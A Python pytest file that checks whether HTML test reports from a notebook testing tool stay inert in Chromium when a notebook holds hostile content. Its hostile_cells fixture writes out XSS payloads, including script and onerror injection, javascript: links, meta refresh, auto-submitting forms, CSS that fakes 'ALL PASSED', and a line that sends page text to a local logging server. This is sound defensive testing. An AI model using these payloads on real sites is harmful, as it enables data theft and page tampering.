"""Hostile notebook content in the HTML report: in a real browser nothing in it runs, navigates, reaches
the network or styles the page (issue 22), whether pytest or nbreview wrote the report.

The attacker's end is a logging server on 127.0.0.1 that every hostile URL points at. It handles one
connection at a time, in order, so once it has answered a request the test makes after Chromium has
exited, it has logged everything Chromium sent it: no sleeps, nothing that depends on speed.
"""

from __future__ import annotations

import contextlib
import socket
import socketserver
import struct
import subprocess
import sys
import threading
import zlib
from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.browser import ARTIFACTS, CHROMIUM_FLAGS, PAINT_FRAMES, chromium
from tests.notebooks import PARAMS, Cell, write_notebook
from tests.subprocess_pytest import run_pytest

pytestmark = pytest.mark.kernel  # every test here reads the reports of a notebook's run

# What a script sets if one runs anywhere: the title, a marker attribute, and a magenta sheet over the window.
PWN = (
    "try{top.document.title='PWNED';top.document.documentElement.setAttribute('data-pwned','1')}catch(e){}"
    "document.title='PWNED';document.documentElement.setAttribute('data-pwned','1');"
    "var d=document.createElement('div');"
    "d.style.cssText='position:fixed;left:0;top:0;width:100%;height:100%;background:#ff00ff;z-index:2147483647';"
    "document.documentElement.appendChild(d);"
)
MAGENTA = (255, 0, 255)
BADGE_RED = (0xCF, 0x22, 0x2E)  # .badge.bad
FAILING_CELL = (0xFF, 0xF0, 0xF0)  # the failing cell's background inside the rendered notebook
ERROR = '<b>not bold</b><img src=x onerror="' + PWN + '"><script>' + PWN + "</script>"


class LoggingServer(socketserver.TCPServer):
    """Logs one line per connection: its request line, or that it sent none (a preconnect)."""

    allow_reuse_address = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Logger)
        self.seen: list[str] = []
        self.port = int(self.server_address[1])
        self.url = f"http://127.0.0.1:{self.port}"

    def drain(self) -> list[str]:
        """Everything that reached the server since the last drain (see the module docstring)."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=120) as sentinel:
            sentinel.sendall(b"GET /sentinel HTTP/1.0\r\n\r\n")
            while sentinel.recv(4096):
                pass
        seen, self.seen = self.seen, []
        assert seen[-1] == "GET /sentinel HTTP/1.0", seen
        return seen[:-1]


class _Logger(socketserver.StreamRequestHandler):
    timeout = 30  # a connection that never sends a request line is logged, then dropped

    def handle(self) -> None:
        try:
            line = self.rfile.readline(65536).decode("latin-1").strip()
        except OSError:
            line = ""
        assert isinstance(self.server, LoggingServer)
        self.server.seen.append(line or "(a connection without a request)")
        with contextlib.suppress(OSError):  # the browser has gone (a preconnect it closed)
            self.wfile.write(b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<title>reached</title>reached")


@pytest.fixture(scope="module")
def server() -> Iterator[LoggingServer]:
    logging_server = LoggingServer()
    thread = threading.Thread(target=logging_server.serve_forever, daemon=True)
    thread.start()
    try:
        yield logging_server
    finally:
        logging_server.shutdown()
        logging_server.server_close()
        thread.join(timeout=60)


def hostile_cells(url: str) -> list[Cell]:
    """A notebook whose outputs and markdown try every way we know to run, leave the page or restyle it."""
    exfiltrate = f"location.href='{url}/loc?page='+encodeURIComponent(document.body.innerText.slice(0,300));"
    payload = (
        f'<script>{PWN}</script><img src=x onerror="{PWN}"><svg onload="{PWN}"><rect width=9 height=9/></svg>'
        f'<meta http-equiv="refresh" content="0;url={url}/refresh">'
        f'<form id="exfil" action="{url}/form" method="post"><input name="page" value="x"></form>'
        "<script>document.getElementById('exfil').submit()</script>"
        "<img src=y onerror=\"document.getElementById('exfil').submit()\">"
        f"<script>{exfiltrate}</script><script>top.location.href='{url}/top'</script>"
        f"<script>fetch('{url}/fetch');navigator.sendBeacon('{url}/beacon','x')</script>"
        f'<link rel="preconnect" href="{url}"><link rel="dns-prefetch" href="{url}">'
        f'<link rel="prefetch" href="{url}/prefetch"><link rel="preload" as="image" href="{url}/preload">'
        f'<link rel="stylesheet" href="{url}/css"><img src="{url}/img"><iframe src="{url}/iframe"></iframe>'
        f'<object data="{url}/object"></object><video poster="{url}/poster"></video><base href="{url}/">'
        f"<style>@import url({url}/import);body{{background-image:url({url}/bg)}}"
        ".badge.bad{display:none!important}.verdict-failed{color:#1a7f37!important}"
        "h1::after{content:' ALL PASSED';color:#1a7f37}</style>"
    )
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}" width="9" height="9"><script>{PWN}</script></svg>'
    return [
        PARAMS,
        "md:# A hostile notebook\n[a javascript: link](javascript:document.title='PWNED') "
        f'<a href="javascript:{PWN}">another</a><script>{PWN}</script>',
        f"from IPython.display import HTML, SVG, Javascript, Markdown, display\ndisplay(HTML({payload!r}))",
        f"display(Javascript({PWN!r}))\ndisplay(SVG({svg!r}))",
        "display(Markdown(\"[markdown output](javascript:document.title='PWNED')\"))",
        f"raise RuntimeError({ERROR!r})",
    ]


@pytest.fixture(scope="module")
def reports(server: LoggingServer, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The report of a session whose one case ran the hostile notebook and failed, as written by
    ``pytest --notebooks-html`` and by ``nbreview --format html`` from its results file."""
    root = tmp_path_factory.mktemp("hostile")
    write_notebook(root / "nb.ipynb", hostile_cells(server.url))
    (root / "nb.yaml").write_text("cases:\n  evil: {region_code: evil}\n")
    run = run_pytest(root, "-p", "no:cacheprovider", "-p", "no:xdist", "--notebooks-html=report.html", timeout=900)
    assert run.returncode == 1, run.stdout + run.stderr
    review = subprocess.run(
        [sys.executable, "-m", "pytest_notebooks.review.cli", "--format", "html", "--output", "review.html"],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert review.returncode == 0, review.stderr
    reached = server.drain()
    assert not reached, reached  # running the notebook and writing the reports reached nothing
    return {"pytest": root / "report.html", "nbreview": root / "review.html"}


class Dom(HTMLParser):
    """The top document as Chromium serialised it after load: elements, text, title and headings."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.title = ""
        self.h1: list[str] = []
        self._in: str | None = None
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag in ("title", "h1"):
            self._in = tag
            if tag == "h1":
                self.h1.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == self._in:
            self._in = None

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._in == "title":
            self.title += data
        elif self._in == "h1":
            self.h1[-1] += data

    def attributes(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.elements if name == tag]


def browse(page: Path, profile: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [chromium(), *CHROMIUM_FLAGS, f"--user-data-dir={profile}", *args, page.as_uri()],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


def assert_nothing_ran_or_left(dom: Dom) -> None:
    assert dom.title == "Notebook tests: 1 failed"
    assert [" ".join(h.split()) for h in dom.h1[:1]] == ["failed Notebook tests: 1 failed"]
    assert dom.attributes("body")[0].get("data-ready") == "yes"  # the page's own script ran
    assert not [attrs for _, attrs in dom.elements if "data-pwned" in attrs]
    tags = Counter(tag for tag, _ in dom.elements)
    assert (tags["script"], tags["style"]) == (2, 1), "only the page's own script and style"
    assert not {"link", "form", "svg", "img", "object", "embed", "base", "video"} & set(tags)
    refresh = [
        a for a in dom.attributes("meta") if a.get("http-equiv", "").lower() not in ("", "content-security-policy")
    ]
    assert refresh == []
    handlers = sorted({name for _, attrs in dom.elements for name in attrs if name.startswith("on")})
    assert handlers == []
    live = [v for _, attrs in dom.elements for v in attrs.values() if v.strip().lower().startswith("javascript:")]
    assert live == []


def assert_policy(dom: Dom) -> None:
    """What a click could still do (follow a link, submit a form) no load-time test shows: the policy forbids it."""
    (policy,) = [
        a["content"] for a in dom.attributes("meta") if a.get("http-equiv", "").lower() == "content-security-policy"
    ]
    directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
    assert directives["default-src"] == ["'none'"]
    assert all(source.startswith("'sha256-") for source in directives["script-src"])  # no 'unsafe-inline'
    for name in ("frame-src", "form-action", "base-uri", "object-src"):
        assert directives[name] == ["'none'"], name


def assert_notebook_rendered_inert(dom: Dom) -> None:
    frames = dom.attributes("iframe")
    assert len(frames) == 1
    assert frames[0].get("sandbox") == ""  # no allow-scripts, allow-same-origin, allow-forms, allow-top-navigation
    document = frames[0]["srcdoc"]
    assert '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'' in document
    assert "celltag_pytest-notebooks-failing" in document
    assert "PWNED" in document  # the hostile outputs are there, as inert markup
    assert "RuntimeError: <b>not bold</b><img src=x" in "".join(dom.text)  # the page shows the message as text


@pytest.mark.parametrize("writer", ["pytest", "nbreview"])
def test_hostile_notebook_content_neither_runs_nor_leaves_the_page(
    writer: str, reports: dict[str, Path], server: LoggingServer, tmp_path: Path
) -> None:
    page = reports[writer]
    dom = browse(page, tmp_path / "profile", "--dump-dom")
    assert dom.returncode == 0, dom.stderr
    ARTIFACTS.mkdir(exist_ok=True)
    shot = ARTIFACTS / f"hostile-report-{writer}.png"
    shot.unlink(missing_ok=True)
    screenshot = browse(page, tmp_path / "profile2", PAINT_FRAMES, "--window-size=1024,1300", f"--screenshot={shot}")
    assert screenshot.returncode == 0, screenshot.stderr
    reached = server.drain()
    assert not reached, "reached the logging server:\n" + "\n".join(reached)  # requests, navigations, preconnects

    parsed = Dom(dom.stdout)
    assert_nothing_ran_or_left(parsed)
    assert_policy(parsed)
    assert_notebook_rendered_inert(parsed)
    colours = pixels(shot.read_bytes())
    assert colours[MAGENTA] == 0, "a script painted the window"
    assert colours[BADGE_RED] > 500, "the red badges are hidden"
    # the frame opens at the failing cell (scroll-initial-target, Chromium >= 133), highlighted
    assert colours[FAILING_CELL] > 2000, "the rendered notebook or its failing-cell highlight is missing"


def pixels(png: bytes) -> Counter[tuple[int, int, int]]:
    """How many pixels of each colour an 8-bit RGB(A) non-interlaced PNG has (Chromium's screenshots)."""
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    chunks: dict[bytes, bytes] = {}
    position = 8
    while position < len(png):
        (length,) = struct.unpack(">I", png[position : position + 4])
        kind = png[position + 4 : position + 8]
        chunks[kind] = chunks.get(kind, b"") + png[position + 8 : position + 8 + length]
        position += 12 + length
    width, height, depth, colour_type, _, _, interlace = struct.unpack(">IIBBBBB", chunks[b"IHDR"])
    assert (depth, interlace) == (8, 0), (depth, interlace)
    assert colour_type in (2, 6), colour_type  # RGB or RGBA
    step = 3 if colour_type == 2 else 4
    raw = zlib.decompress(chunks[b"IDAT"])
    stride = width * step
    previous = bytearray(stride)
    image = bytearray()
    for row in range(height):
        start = row * (stride + 1)
        previous = _unfilter(raw[start], bytearray(raw[start + 1 : start + 1 + stride]), previous, step)
        image += previous
    return Counter(zip(image[0::step], image[1::step], image[2::step], strict=True))


def _unfilter(kind: int, line: bytearray, above: bytearray, step: int) -> bytearray:
    for i in range(len(line)):
        left = line[i - step] if i >= step else 0
        corner = above[i - step] if i >= step else 0
        if kind == 1:
            line[i] = (line[i] + left) & 0xFF
        elif kind == 2:
            line[i] = (line[i] + above[i]) & 0xFF
        elif kind == 3:
            line[i] = (line[i] + (left + above[i]) // 2) & 0xFF
        elif kind == 4:
            line[i] = (line[i] + _paeth(left, above[i], corner)) & 0xFF
    return line


def _paeth(left: int, above: int, corner: int) -> int:
    estimate = left + above - corner
    distances = (abs(estimate - left), abs(estimate - above), abs(estimate - corner))
    return (left, above, corner)[distances.index(min(distances))]
